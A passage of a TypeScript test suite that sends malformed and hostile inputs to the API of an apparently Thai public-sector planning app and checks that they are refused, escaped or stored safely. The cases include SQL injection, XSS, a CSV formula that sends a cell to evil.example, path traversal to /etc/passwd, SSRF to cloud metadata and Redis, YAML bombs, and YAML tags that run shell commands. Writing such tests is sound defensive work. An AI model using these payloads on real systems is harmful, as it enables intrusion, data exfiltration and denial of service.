import ExcelJS from 'exceljs';
import { expect } from 'vitest';
import { escapeHtml } from '../../../src/server/modules/documents/html/escape.ts';
import type { OitCheck } from '../../../src/shared/oit/contract.ts';
import { type Case, type Expectation, raw, refused, send } from './case.ts';
import { minimalPdf } from './files.ts';
import { LOOPBACK_NAMES, type World } from './world.ts';

/** JSON bodies, route parameters and headers: text that cannot be stored, injection, traversal, SSRF, size, syntax. */

/** A request body with `text` in one field, for every text field a person types. */
type TextField = {
  field: string;
  request(
    world: World,
    text: string,
  ): { who?: 'admin' | 'reporter'; method: string; path: string; body: unknown };
};

const uuid = () => crypto.randomUUID();
const report = (extra: Record<string, unknown> = {}) => ({
  rowVersion: 1,
  result: 'ดำเนินการแล้ว',
  progress: 'in_progress',
  percent: 50,
  ...extra,
});
const oitItem = (extra: Record<string, unknown> = {}) => ({
  rowVersion: 0,
  url: null,
  status: 'in_progress',
  notes: '',
  ...extra,
});
const planWith = (w: World, patch: (content: Record<string, unknown>) => void) => {
  const content = structuredClone(w.draftPlan.content) as Record<string, unknown>;
  patch(content);
  return { rowVersion: w.draftPlan.rowVersion, content };
};

export const TEXT_FIELDS: TextField[] = [
  {
    field: 'plan content.title',
    request: (w, t) => ({
      method: 'PUT',
      path: `/api/plans/${w.draftPlan.id}`,
      body: planWith(w, (c) => {
        c.title = t;
      }),
    }),
  },
  {
    field: 'plan content.introduction',
    request: (w, t) => ({
      method: 'PUT',
      path: `/api/plans/${w.draftPlan.id}`,
      body: planWith(w, (c) => {
        c.introduction = t;
      }),
    }),
  },
  {
    field: 'plan content: a measure step',
    request: (w, t) => ({
      method: 'PUT',
      path: `/api/plans/${w.draftPlan.id}`,
      body: planWith(w, (c) => {
        (c.issues as { measures: { steps: { text: string }[] }[] }[])[0]!.measures[0]!.steps[0]!.text = t;
      }),
    }),
  },
  {
    field: 'new plan title',
    request: (w, t) => ({
      method: 'POST',
      path: '/api/plans',
      body: { organizationId: w.province.id, fiscalYear: 2569, title: t },
    }),
  },
  {
    field: 'organisation nameTh (new)',
    request: (w, t) => ({
      method: 'POST',
      path: '/api/organizations',
      body: { parentId: w.province.id, code: `HX-${uuid().slice(0, 8)}`, kind: 'regional_unit', nameTh: t },
    }),
  },
  {
    field: 'organisation nameEn (edit)',
    request: (w, t) => ({
      method: 'PATCH',
      path: `/api/organizations/${w.unit.id}`,
      body: { version: 1, nameEn: t },
    }),
  },
  {
    field: 'organisation code (new)',
    request: (w, t) => ({
      method: 'POST',
      path: '/api/organizations',
      body: { parentId: w.province.id, code: `HX${t}`, kind: 'regional_unit', nameTh: 'หน่วยงานใหม่' },
    }),
  },
  {
    field: 'user displayName (new)',
    request: (w, t) => ({
      method: 'POST',
      path: '/api/users',
      body: {
        email: `hx-${uuid().slice(0, 8)}@test.local`,
        displayName: t,
        password: 'a-good-password-1',
        role: 'viewer',
        organizationId: w.unit.id,
      },
    }),
  },
  {
    field: 'user email (new)',
    request: (w, t) => ({
      method: 'POST',
      path: '/api/users',
      body: {
        email: `hx${t}@test.local`,
        displayName: 'ผู้ใช้',
        password: 'a-good-password-1',
        role: 'viewer',
        organizationId: w.unit.id,
      },
    }),
  },
  {
    field: 'user displayName (edit)',
    request: (w, t) => ({
      method: 'PATCH',
      path: `/api/users/${w.reporter.id}`,
      body: { version: 1, displayName: t },
    }),
  },
  {
    field: 'OIT notes',
    request: (w, t) => ({
      method: 'PUT',
      path: `/api/oit/${w.province.id}/2569/items/o1`,
      body: oitItem({ notes: t }),
    }),
  },
  {
    field: 'OIT urlNote',
    request: (w, t) => ({
      method: 'PUT',
      path: `/api/oit/${w.province.id}/2569/items/o2`,
      body: oitItem({ urlNote: t }),
    }),
  },
  {
    field: 'report result',
    request: (w, t) => ({
      who: 'reporter',
      method: 'PUT',
      path: `/api/reports/${w.slotId}`,
      body: report({ result: t }),
    }),
  },
  {
    field: 'report problems',
    request: (w, t) => ({
      who: 'reporter',
      method: 'PUT',
      path: `/api/reports/${w.slotId}`,
      body: report({ problems: t }),
    }),
  },
  {
    field: 'report link label',
    request: (w, t) => ({
      who: 'reporter',
      method: 'PUT',
      path: `/api/reports/${w.slotId}`,
      body: report({ links: [{ url: 'https://www.example.go.th/ita', label: t }] }),
    }),
  },
  {
    field: 'analysis title',
    request: (w, t) => ({
      method: 'PATCH',
      path: `/api/analyses/${w.analysis.id}`,
      body: { version: w.analysis.version, title: t },
    }),
  },
  {
    field: 'analysis limitations',
    request: (w, t) => ({
      method: 'PATCH',
      path: `/api/analyses/${w.analysis.id}`,
      body: { version: w.analysis.version, limitations: t },
    }),
  },
  {
    field: 'publication withdraw reason',
    request: (_w, t) => ({
      method: 'POST',
      path: `/api/publications/${uuid()}/withdraw`,
      body: { reason: t },
    }),
  },
  {
    field: 'plan decision comment',
    request: (w, t) => ({
      method: 'POST',
      path: `/api/plans/${w.draftPlan.id}/decision`,
      body: { decision: 'return', rowVersion: w.draftPlan.rowVersion, comment: t },
    }),
  },
  {
    field: 'round label',
    request: (w, t) => ({
      method: 'POST',
      path: '/api/rounds',
      body: { planId: w.circulatedPlanId, kind: 'custom', labelTh: t, dueDate: '2024-06-30' },
    }),
  },
  {
    field: 'evidence file name',
    request: (w, t) => ({
      who: 'reporter',
      method: 'POST',
      path: `/api/evidence/slots/${w.slotId}`,
      body: { fileName: `${t}.pdf`, contentBase64: Buffer.from(minimalPdf()).toString('base64') },
    }),
  },
  {
    field: 'import file name',
    request: (w, t) => ({
      method: 'POST',
      path: '/api/assessments/import',
      body: {
        fileName: `${t}.csv`,
        contentBase64: Buffer.from('code,score\n1,80\n').toString('base64'),
        fiscalYear: 2566,
        organizationId: w.unit.id,
        commit: true,
      },
    }),
  },
  {
    field: 'catalogue YAML',
    request: (_w, t) => ({
      method: 'POST',
      path: '/api/catalogue/editions',
      body: { yaml: `fiscal_year: 2570\nnote: "${t}"\n` },
    }),
  },
  {
    field: 'score reason (entry form)',
    request: (w, t) => ({
      method: 'PUT',
      path: '/api/assessments',
      body: {
        organizationId: w.unit.id,
        fiscalYear: 2567,
        scores: [{ scope: 'indicator', code: '1', score: 80, reason: t }],
      },
    }),
  },
  {
    field: 'sign-in e-mail',
    request: (_w, t) => ({
      method: 'POST',
      path: '/api/auth/sign-in',
      body: { email: `a${t}@x.th`, password: 'x' },
    }),
  },
];

const UNSTORABLE = [
  ['NUL', 'ข้อความ\u0000ต่อ'],
  ['a lone high surrogate', 'ข้อความ\uD800ต่อ'],
  ['a lone low surrogate', '\uDC00ข้อความ'],
] as const;

/** Strings that are valid text: stored verbatim, escaped wherever they are rendered. */
export const INJECTIONS = [
  ['SQL', "x'); drop table organizations; --"],
  ['SQL (union)', "' union select password_hash from users --"],
  ['CSV formula', "=cmd|' /C calc'!A0"],
  ['CSV formula (+)', '+HYPERLINK("http://evil.example/?"&A1,"ดู")'],
  ['HTML script', '<script>alert("xss")</script>'],
  ['HTML attribute', '"><img src=x onerror=alert(1)>'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text a template injection sends
  ['template', '{{7*7}} ${7*7} <%= 7*7 %>'],
  ['backslashes and quotes', '\\"\\u0000\' \\\\ `'],
] as const;

async function bodyOf(response: Response) {
  const text = await response.clone().text();
  try {
    return JSON.parse(text);
  } catch {
    return text;
  }
}

/** Text as stored: the injection cases read it back through the API and from the database. */
function storedVerbatim(read: (w: World, body: unknown) => Promise<unknown>, value: string): Expectation {
  return {
    kind: 'stored',
    status: 200,
    async verify(w, _response, body) {
      expect(await read(w, body)).toBe(value);
    },
  };
}

export function bodyCases(): Case[] {
  const cases: Case[] = [];
  const add = (family: string, name: string, sendIt: Case['send'], expectation: Expectation = refused()) =>
    cases.push({ family, name, send: sendIt, expect: expectation });

  // --- NUL and lone surrogates in every text field -------------------------------------------
  for (const field of TEXT_FIELDS) {
    for (const [what, text] of UNSTORABLE) {
      add('unstorable text', `${field.field}: ${what}`, (w) => {
        const r = field.request(w, text);
        return send(w, r.who ?? 'admin', r.method, r.path, r.body);
      });
    }
  }
  add('unstorable text', 'a NUL in a JSON key', (w) =>
    send(w, 'admin', 'PATCH', `/api/organizations/${w.unit.id}`, { version: 1, 'nameTh\u0000': 'x' }),
  );
  add('unstorable text', 'a NUL in a query string', (w) =>
    send(w, 'admin', 'GET', '/api/audit?entityType=plan%00x'),
  );
  add('unstorable text', 'a NUL in a uuid query parameter', (w) =>
    send(w, 'admin', 'GET', '/api/assessments?organizationId=%00'),
  );
  add('unstorable text', 'a NUL in a route parameter', (w) =>
    send(w, 'admin', 'GET', '/api/plans/abc%00def'),
  );

  // --- Injection strings: valid text, stored verbatim ----------------------------------------
  for (const [what, value] of INJECTIONS) {
    add(
      'injection (stored as text)',
      `organisation nameEn: ${what}`,
      async (w) => {
        const org = await w.ctx.org(w.province);
        return send(w, 'admin', 'PATCH', `/api/organizations/${org.id}`, { version: 1, nameEn: value });
      },
      {
        kind: 'stored',
        status: 200,
        async verify(w, _response, body) {
          const saved = body as { id: string; nameEn: string };
          expect(saved.nameEn).toBe(value);
          const read = await (await send(w, 'admin', 'GET', `/api/organizations/${saved.id}`)).json();
          expect(read.nameEn).toBe(value);
        },
      },
    );
  }
  for (const [what, value] of INJECTIONS) {
    add(
      'injection (stored as text)',
      `OIT notes: ${what}`,
      async (w) => {
        const code = `o${10 + INJECTIONS.findIndex(([, v]) => v === value)}`;
        return send(
          w,
          'admin',
          'PUT',
          `/api/oit/${w.province.id}/2569/items/${code}`,
          oitItem({ notes: value }),
        );
      },
      {
        kind: 'stored',
        status: 200,
        async verify(w, _response, body) {
          expect((body as { notes: string }).notes).toBe(value);
          // In the tracker's XLSX the notes are a text cell, never a formula Excel would run.
          const xlsx = await send(w, 'admin', 'GET', `/api/oit/${w.province.id}/2569/export`);
          expect(xlsx.status).toBe(200);
          const wb = new ExcelJS.Workbook();
          await wb.xlsx.load((await xlsx.arrayBuffer()) as ArrayBuffer);
          const cells: ExcelJS.Cell[] = [];
          for (const ws of wb.worksheets) {
            ws.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
          }
          // Text a spreadsheet would read as a formula is written after an apostrophe (render-xlsx.ts).
          const expected = /^[=+\-@]/.test(value) ? `'${value}` : value;
          const cell = cells.find((c) => c.text === expected);
          expect(cell, `the notes are in the export as ${expected}`).toBeDefined();
          expect(cell!.type).toBe(ExcelJS.ValueType.String);
          expect(cell!.formula).toBeUndefined();
        },
      },
    );
  }
  // Markup in a name reaches a page: the organisation's public index shows its name, escaped.
  for (const [what, value] of INJECTIONS.filter(([, v]) => /[<>"&]/.test(v))) {
    add(
      'injection (stored as text)',
      `organisation nameTh on its public page: ${what}`,
      (w) =>
        send(w, 'admin', 'POST', '/api/organizations', {
          parentId: w.province.id,
          code: `INJ-${uuid().slice(0, 8)}`,
          kind: 'regional_unit',
          nameTh: value,
        }),
      {
        kind: 'stored',
        status: 201,
        async verify(w, _response, body) {
          const org = body as { id: string; nameTh: string };
          expect(org.nameTh).toBe(value);
          const slug = `inj-${uuid().slice(0, 8)}`;
          const site = await send(w, 'admin', 'PUT', `/api/publications/sites/${org.id}`, { slug });
          expect(site.status, await site.clone().text()).toBe(200);
          const page = await w.ctx.app.request(`http://localhost/p/${slug}`);
          const html = await page.text();
          expect(page.status).toBe(200);
          expect(html.includes(value), 'the raw markup is in the page').toBe(false);
          expect(html.includes(escapeHtml(value)), 'the escaped name is in the page').toBe(true);
        },
      },
    );
  }
  for (const [what, value] of INJECTIONS) {
    add(
      'injection (stored as text)',
      `user displayName: ${what}`,
      (w) =>
        send(w, 'admin', 'POST', '/api/users', {
          email: `inj-${uuid().slice(0, 8)}@test.local`,
          displayName: value,
          password: 'a-good-password-1',
          role: 'viewer',
          organizationId: w.unit.id,
        }),
      {
        kind: 'stored',
        status: 201,
        async verify(w, _response, body) {
          const id = (body as { id: string }).id;
          const read = await (await send(w, 'admin', 'GET', `/api/users/${id}`)).json();
          expect(read.displayName).toBe(value);
        },
      },
    );
  }

  // --- Path traversal in route parameters and file names -------------------------------------
  const traversals = [
    '..%2F..%2F..%2Fetc%2Fpasswd',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '%252e%252e%252fetc%252fpasswd',
    '..%5C..%5Cwindows%5Cwin.ini',
    '%2Fetc%2Fpasswd',
    'C:%5Cwindows%5Cwin.ini',
    '..%00.pdf',
    'x'.repeat(5000),
  ];
  const traversalRoutes = [
    ['evidence download', (p: string) => `/api/evidence/${p}/download`],
    ['document download', (p: string) => `/api/documents/${p}/pdf`],
    ['document format', (p: string) => `/api/documents/${crypto.randomUUID()}/${p}`],
    ['plan', (p: string) => `/api/plans/${p}`],
    ['emblem of an organisation', (p: string) => `/api/documents/settings/${p}/emblem`],
  ] as const;
  for (const [route, path] of traversalRoutes) {
    for (const t of traversals) {
      add('path traversal', `${route}: ${t.length > 60 ? `${t.slice(0, 10)}… (${t.length})` : t}`, (w) =>
        send(w, 'admin', 'GET', path(t)),
      );
    }
  }
  // A bare `../` is resolved by the URL itself (the client's and the server's) before any route sees it.
  for (const t of ['..%2f..%2fetc%2fpasswd', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '....//....//etc/passwd']) {
    add('path traversal', `OIT organisation parameter: ${t}`, (w) =>
      send(w, 'admin', 'GET', `/api/oit/${t}/2569`),
    );
  }
  // The public pages (HTML, no sign-in) read their address themselves: `%`, `\\`, `.` and `..` are refused.
  for (const path of [
    '/p/..%2f..%2fetc%2fpasswd',
    '/p/assets/..%2f..%2f..%2fpackage.json',
    '/p/assets/%2e%2e%2fpackage.json',
    '/p/assets/.env',
    '/p/hc-site/2569/plan/..%2f..%2f..%2fpackage.json',
    '/p/hc-site/emblem/..%2f..%2fetc%2fpasswd',
    `/p/assets/${'a'.repeat(5000)}.css`,
    '/p/%00/feed.json',
  ]) {
    add(
      'path traversal',
      `public page ${path.length > 80 ? `${path.slice(0, 20)}… (${path.length})` : path}`,
      async (w) => w.ctx.app.request(`http://localhost${path}`),
      { kind: 'page not found' },
    );
  }
  add('path traversal', 'evidence file name over 255 characters', (w) =>
    send(w, 'reporter', 'POST', `/api/evidence/slots/${w.slotId}`, {
      fileName: `${'ก'.repeat(300)}.pdf`,
      contentBase64: Buffer.from(minimalPdf()).toString('base64'),
    }),
  );
  add('path traversal', 'import file name over 300 characters', (w) =>
    send(w, 'admin', 'POST', '/api/assessments/import', {
      fileName: `${'a'.repeat(400)}.csv`,
      contentBase64: Buffer.from('code,score\n1,80\n').toString('base64'),
      fiscalYear: 2566,
      organizationId: w.unit.id,
      commit: true,
    }),
  );
  // The import reads the content, never the name (docs/import-formats.md): a path is only a name.
  for (const name of ['../../etc/passwd', '/etc/passwd', 'C:\\Windows\\win.ini', '..\\..\\boot.ini']) {
    add(
      'path traversal',
      `import file name ${JSON.stringify(name)}: read by its content, the name is only a name`,
      (w) =>
        send(w, 'admin', 'POST', '/api/assessments/import', {
          fileName: name,
          contentBase64: Buffer.from('code,score\n1,80\n').toString('base64'),
          fiscalYear: 2566,
          organizationId: w.unit.id,
          commit: false,
        }),
      { kind: 'preview' },
    );
  }
  for (const name of [
    '../../../../etc/cron.d/x.pdf',
    '/var/lib/prongsai/files/evidence/x.pdf',
    '..\\..\\x.pdf',
  ]) {
    add(
      'path traversal',
      `evidence file name ${JSON.stringify(name)}: the path is dropped, the file kept by its hash`,
      (w) =>
        send(w, 'reporter', 'POST', `/api/evidence/slots/${w.slotId}`, {
          fileName: name,
          contentBase64: Buffer.from(minimalPdf(name)).toString('base64'),
        }),
      {
        kind: 'stored',
        status: 201,
        async verify(_w, _response, body) {
          const file = body as { originalName: string };
          expect(file.originalName).toBe('x.pdf');
        },
      },
    );
  }

  // --- SSRF addresses in URL fields ---------------------------------------------------------
  const ssrf = [
    'http://127.0.0.1/',
    'http://127.1/',
    'http://2130706433/',
    'http://0x7f000001/',
    'http://0177.0.0.1/',
    'http://0.0.0.0:5432/',
    'http://169.254.169.254/latest/meta-data/',
    'http://100.100.100.200/latest/meta-data/',
    'http://[::1]/',
    'http://[::ffff:127.0.0.1]/',
    'http://[::ffff:7f00:1]/',
    'http://[fd00:ec2::254]/',
    'http://[fe80::1]/',
    'http://10.0.0.1/',
    'http://172.16.0.1/',
    'http://192.168.1.1/',
    'http://localhost:3000/api/auth/me',
    'http://localhost./',
    'http://db.localhost/',
    'http://metadata.google.internal/computeMetadata/v1/',
    'http://printer.local/',
    'file:///etc/passwd',
    'gopher://127.0.0.1:6379/_FLUSHALL',
    'dict://127.0.0.1:11211/stats',
    'ftp://127.0.0.1/',
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'http://user:pass@www.example.go.th/',
    'http:///etc/passwd',
    '//127.0.0.1/',
  ];
  ssrf.forEach((url) => {
    add('SSRF', `OIT link ${url}`, (w) =>
      send(w, 'admin', 'PUT', `/api/oit/${w.province.id}/2569/items/o3`, oitItem({ url })),
    );
  });
  // A name that looks public is saved (no DNS at save time); the checker resolves it once and refuses
  // to connect when any answer is private, storing why: the documented 200 of a check run.
  Object.keys(LOOPBACK_NAMES).forEach((host, i) => {
    const code = `o${20 + i}`;
    let url = '';
    add(
      'SSRF',
      `OIT link to a name resolving to ${LOOPBACK_NAMES[host]!.map((a) => a.address).join(' and ')}: saved, never fetched`,
      async (w) => {
        url = `http://${host}:${w.trap.port}/ita`;
        const saved = await send(
          w,
          'admin',
          'PUT',
          `/api/oit/${w.unit.id}/2569/items/${code}`,
          oitItem({ url }),
        );
        if (saved.status !== 200) return saved;
        return send(w, 'admin', 'POST', `/api/oit/${w.unit.id}/2569/check`);
      },
      {
        kind: 'stored',
        status: 200,
        async verify(w, _response, body) {
          expect(w.trap.hits, 'requests that reached the loopback server').toBe(0);
          const run = body as { tracker: { rows: { itemCode: string; lastCheck: OitCheck | null }[] } };
          const check = run.tracker.rows.find((r) => r.itemCode === code)?.lastCheck;
          expect(check?.url).toBe(url);
          expect(check?.error?.code).toBe('private_address');
          expect(check?.httpStatus).toBeNull();
          expect(check?.bytesRead).toBe(0);
        },
      },
    );
  });
  for (const url of [
    'file:///etc/passwd',
    'gopher://127.0.0.1:6379/_x',
    'javascript:alert(1)',
    'data:text/html,x',
  ]) {
    add('SSRF', `report link ${url}`, (w) =>
      send(w, 'reporter', 'PUT', `/api/reports/${w.slotId}`, report({ links: [{ url, label: 'ลิงก์' }] })),
    );
  }

  // --- Oversized bodies ---------------------------------------------------------------------
  add(
    'oversized',
    'a plan of 300 kB (over the 256 kB limit)',
    (w) =>
      send(
        w,
        'admin',
        'PUT',
        `/api/plans/${w.draftPlan.id}`,
        planWith(w, (c) => {
          c.introduction = 'ก'.repeat(100_000);
        }),
      ),
    refused(413),
  );
  add(
    'oversized',
    'an organisation of 1 MB',
    (w) =>
      send(w, 'admin', 'PATCH', `/api/organizations/${w.unit.id}`, {
        version: 1,
        nameTh: 'x'.repeat(1024 * 1024),
      }),
    refused(413),
  );
  add(
    'oversized',
    'a result import over 8 MB',
    (w) =>
      send(w, 'admin', 'POST', '/api/assessments/import', {
        fileName: 'r.csv',
        contentBase64: 'A'.repeat(9 * 1024 * 1024),
        fiscalYear: 2566,
        commit: true,
      }),
    refused(413),
  );
  add('oversized', 'evidence over the upload limit', (w) =>
    send(w, 'reporter', 'POST', `/api/evidence/slots/${w.slotId}`, {
      fileName: 'big.pdf',
      contentBase64: Buffer.concat([Buffer.from(minimalPdf()), Buffer.alloc(2100 * 1024, 0x20)]).toString(
        'base64',
      ),
    }),
  );
  add(
    'oversized',
    'a catalogue YAML over 4 MB',
    (w) =>
      send(w, 'admin', 'POST', '/api/catalogue/editions', { yaml: `# ${'x'.repeat(4.5 * 1024 * 1024)}\n` }),
    refused(413),
  );
  add('oversized', 'a body that says it is small (content-length lies)', (w) =>
    raw(
      w,
      'admin',
      'PATCH',
      `/api/organizations/${w.unit.id}`,
      JSON.stringify({ version: 1, nameTh: 'x'.repeat(300_000) }),
      {
        'content-type': 'application/json',
        'content-length': '20',
      },
    ),
  );
  for (const depth of [1000, 10_000, 100_000]) {
    add('oversized', `JSON arrays nested ${depth.toLocaleString('en')} deep`, (w) =>
      raw(
        w,
        'admin',
        'PATCH',
        `/api/organizations/${w.unit.id}`,
        `${'['.repeat(depth)}${']'.repeat(depth)}`,
        {
          'content-type': 'application/json',
        },
      ),
    );
    add('oversized', `JSON objects nested ${depth.toLocaleString('en')} deep in a plan`, (w) =>
      raw(
        w,
        'admin',
        'PUT',
        `/api/plans/${w.draftPlan.id}`,
        `{"rowVersion":1,"content":${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}}`,
        { 'content-type': 'application/json' },
      ),
    );
  }
  add('oversized', 'a plan of 10,000 issues (at most 50)', (w) =>
    send(
      w,
      'admin',
      'PUT',
      `/api/plans/${w.draftPlan.id}`,
      planWith(w, (c) => {
        c.issues = Array(10_000).fill({});
      }),
    ),
  );
  add('oversized', 'a result of 60,000 scores (at most 2,000)', (w) =>
    send(w, 'admin', 'PUT', '/api/assessments', {
      organizationId: w.unit.id,
      fiscalYear: 2567,
      scores: Array(60_000).fill(0),
    }),
  );
  add('oversized', 'a report of 10,000 links (at most 50)', (w) =>
    send(
      w,
      'reporter',
      'PUT',
      `/api/reports/${w.slotId}`,
      report({ links: Array(10_000).fill({ url: 'https://a.th' }) }),
    ),
  );
  add('oversized', 'an object of 20,000 keys', (w) =>
    send(
      w,
      'admin',
      'PATCH',
      `/api/organizations/${w.unit.id}`,
      Object.fromEntries([['version', 1], ...Array.from({ length: 20_000 }, (_, i) => [`k${i}`, i])]),
    ),
  );

  // --- Malformed JSON, wrong content types, multipart -----------------------------------------
  const malformed = [
    ['an unclosed object', '{'],
    ['a cut value', '{"version":'],
    ['a trailing comma', '{"version":1,}'],
    ['NaN', '{"version":NaN}'],
    ['Infinity', '{"version":Infinity}'],
    ['single quotes', "{'version':1}"],
    ['a comment', '{"version":1 /* hi */}'],
    ['garbage after the value', '{"version":1}xyz'],
    ['two values', '{"version":1}{"version":2}'],
    ['an empty body', ''],
    ['whitespace only', '  \n '],
    ['null', 'null'],
    ['a string', '"hello"'],
    ['a number', '42'],
    ['an array', '[]'],
    ['a lone surrogate escape as a key', '{"\\ud800":1}'],
    ['a bad escape', '{"nameTh":"\\x41"}'],
    ['raw control characters in a string', '{"version":1,"nameTh":"a\u0001\u0002b"}'],
  ] as const;
  for (const [name, body] of malformed) {
    add('malformed', `organisation edit: ${name}`, (w) =>
      raw(w, 'admin', 'PATCH', `/api/organizations/${w.unit.id}`, body, {
        'content-type': 'application/json',
      }),
    );
  }
  const contentTypes: [string, Record<string, string | undefined>, string | Uint8Array][] = [
    ['text/plain', { 'content-type': 'text/plain' }, '{"version":1,"nameTh":"x"}'],
    ['no content-type', {}, '{"version":1,"nameTh":"x"}'],
    ['form-urlencoded', { 'content-type': 'application/x-www-form-urlencoded' }, 'version=1&nameTh=x'],
    ['multipart without a boundary', { 'content-type': 'multipart/form-data' }, '--x\r\n\r\nhello\r\n--x--'],
    [
      'multipart with a boundary',
      { 'content-type': 'multipart/form-data; boundary=x' },
      '--x\r\nContent-Disposition: form-data; name="nameTh"\r\n\r\nx\r\n--x--\r\n',
    ],
    ['XML', { 'content-type': 'application/xml' }, '<version>1</version>'],
    [
      'JSON in UTF-16 (declared)',
      { 'content-type': 'application/json; charset=utf-16' },
      new Uint8Array(Buffer.from('{"version":1}', 'utf16le')),
    ],
    [
      'JSON in UTF-16 (undeclared)',
      { 'content-type': 'application/json' },
      new Uint8Array(Buffer.from('{"version":1}', 'utf16le')),
    ],
    [
      'a content-type of 10 kB',
      { 'content-type': `application/json; ${'x=y; '.repeat(2000)}` },
      '{"version":1}',
    ],
    [
      'binary bytes',
      { 'content-type': 'application/json' },
      new Uint8Array([0xff, 0xfe, 0x00, 0x7b, 0x00, 0x7d]),
    ],
  ];
  for (const [name, headers, body] of contentTypes) {
    const json = /^application\/json/.test(headers['content-type'] ?? '');
    add(
      'malformed',
      `organisation edit: ${name}`,
      (w) => raw(w, 'admin', 'PATCH', `/api/organizations/${w.unit.id}`, body, headers),
      json ? refused() : refused(415, 'unsupported_media_type'),
    );
  }
  add(
    'malformed',
    'organisation edit: JSON with a byte-order mark (read as JSON, RFC 8259 §8.1)',
    async (w) => {
      const org = await w.ctx.org(w.province);
      return raw(
        w,
        'admin',
        'PATCH',
        `/api/organizations/${org.id}`,
        '\uFEFF{"version":1,"nameTh":"ชื่อใหม่"}',
        {
          'content-type': 'application/json',
        },
      );
    },
    storedVerbatim(async (_w, body) => (body as { nameTh: string }).nameTh, 'ชื่อใหม่'),
  );
  add(
    'malformed',
    'evidence upload: multipart without a boundary',
    (w) =>
      raw(w, 'reporter', 'POST', `/api/evidence/slots/${w.slotId}`, 'abc', {
        'content-type': 'multipart/form-data',
      }),
    refused(415, 'unsupported_media_type'),
  );
  add(
    'malformed',
    'result import: form-urlencoded',
    (w) =>
      raw(w, 'admin', 'POST', '/api/assessments/import', 'fileName=r.csv', {
        'content-type': 'application/x-www-form-urlencoded',
      }),
    refused(415, 'unsupported_media_type'),
  );
  add('malformed', 'result import: contentBase64 not base64', (w) =>
    send(w, 'admin', 'POST', '/api/assessments/import', {
      fileName: 'r.csv',
      contentBase64: '!!!!not base64 at all!!!!',
      fiscalYear: 2566,
      organizationId: w.unit.id,
      commit: true,
    }),
  );
  add('malformed', 'evidence upload: contentBase64 not base64', (w) =>
    send(w, 'reporter', 'POST', `/api/evidence/slots/${w.slotId}`, {
      fileName: 'a.pdf',
      contentBase64: '%%%%',
    }),
  );
  add('malformed', 'evidence upload: a data: URL instead of base64', (w) =>
    send(w, 'reporter', 'POST', `/api/evidence/slots/${w.slotId}`, {
      fileName: 'a.pdf',
      contentBase64: `data:application/pdf;base64,${Buffer.from(minimalPdf()).toString('base64')}`,
    }),
  );

  // --- YAML to the catalogue import ---------------------------------------------------------
  const laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 1; i < 9; i++) {
    const prev = String.fromCharCode(96 + i);
    const name = String.fromCharCode(97 + i);
    laughs.push(`${name}: &${name} [${Array(10).fill(`*${prev}`).join(',')}]`);
  }
  const mergeBomb = ['a: &a {x0: 1, x1: 1, x2: 1, x3: 1, x4: 1, x5: 1, x6: 1, x7: 1, x8: 1, x9: 1}'];
  for (let i = 1; i < 8; i++) {
    const prev = String.fromCharCode(96 + i);
    const name = String.fromCharCode(97 + i);
    mergeBomb.push(`${name}: &${name} [${Array(10).fill(`*${prev}`).join(',')}]`);
  }
  const yamls: [string, string][] = [
    ['a billion-laughs alias bomb', `fiscal_year: 2570\n${laughs.join('\n')}\n`],
    ['an alias bomb of mappings', `fiscal_year: 2570\n${mergeBomb.join('\n')}\n`],
    [
      'a merge-key chain',
      `fiscal_year: 2570\nbase: &b {x: 1}\n${Array.from({ length: 200 }, (_, i) => `m${i}: {<<: *b, y: ${i}}`).join('\n')}\nmore: *b\n`,
    ],
    ['a !!js/function tag', 'fiscal_year: 2570\nf: !!js/function "function(){ return process.exit(1) }"\n'],
    ['a !!python/object tag', 'fiscal_year: 2570\nx: !!python/object/apply:os.system ["id"]\n'],
    ['a custom !include tag', 'fiscal_year: 2570\nx: !include /etc/passwd\n'],
    ['a !!binary tag', 'fiscal_year: 2570\nx: !!binary AAAA\n'],
    ['a %TAG directive', '%TAG !e! tag:evil.example,2000:\n---\nfiscal_year: !e!year 2570\n'],
    ['10,000 nested flow sequences', `fiscal_year: 2570\nx: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`],
    ['an undefined alias', 'fiscal_year: 2570\nx: *nowhere\n'],
    ['tabs for indentation', 'fiscal_year: 2570\nx:\n\t- 1\n'],
    ['two documents', 'fiscal_year: 2570\n---\nfiscal_year: 2571\n'],
    ['a fiscal year of 1e309', 'fiscal_year: 1e309\n'],
    ['a fiscal year of .nan', 'fiscal_year: .nan\n'],
    ['a fiscal year of -2570', 'fiscal_year: -2570\n'],
    ['a scalar document', '42\n'],
    ['an empty document', '---\n'],
    ['a key of 1 MB', `${'k'.repeat(1024 * 1024)}: 1\n`],
  ];
  for (const [name, yaml] of yamls) {
    add('YAML', `catalogue edition: ${name}`, (w) =>
      send(w, 'admin', 'POST', '/api/catalogue/editions', { yaml }),
    );
  }

  // --- Numbers out of range in JSON ---------------------------------------------------------
  const scoreBody = (w: World, score: string) =>
    `{"organizationId":"${w.unit.id}","fiscalYear":2567,"scores":[{"scope":"indicator","code":"1","score":${score}}]}`;
  for (const score of [
    '-1',
    '100.5',
    '101',
    '1e309',
    '-1e309',
    '"80"',
    '"๘๐"',
    'true',
    '[80]',
    '{"value":80}',
    '9'.repeat(400),
  ]) {
    add(
      'number out of range',
      `result entry: score ${score.length > 20 ? `${score.slice(0, 5)}…` : score}`,
      (w) =>
        raw(w, 'admin', 'PUT', '/api/assessments', scoreBody(w, score), {
          'content-type': 'application/json',
        }),
    );
  }
  for (const year of ['1e309', '99999', '-2567', '2567.5', '"๒๕๖๗"', '0', '2499', '2701']) {
    add('number out of range', `result entry: fiscalYear ${year}`, (w) =>
      raw(
        w,
        'admin',
        'PUT',
        '/api/assessments',
        `{"organizationId":"${w.unit.id}","fiscalYear":${year},"scores":[]}`,
        { 'content-type': 'application/json' },
      ),
    );
  }
  for (const percent of [-1, 101, 50.5, 1e308]) {
    add('number out of range', `report percent ${percent}`, (w) =>
      send(w, 'reporter', 'PUT', `/api/reports/${w.slotId}`, report({ percent })),
    );
  }
  for (const version of ['-1', '0', '1e309', '9223372036854775808', '1.5', '"1"']) {
    add('number out of range', `organisation version ${version}`, (w) =>
      raw(w, 'admin', 'PATCH', `/api/organizations/${w.unit.id}`, `{"version":${version},"nameTh":"x"}`, {
        'content-type': 'application/json',
      }),
    );
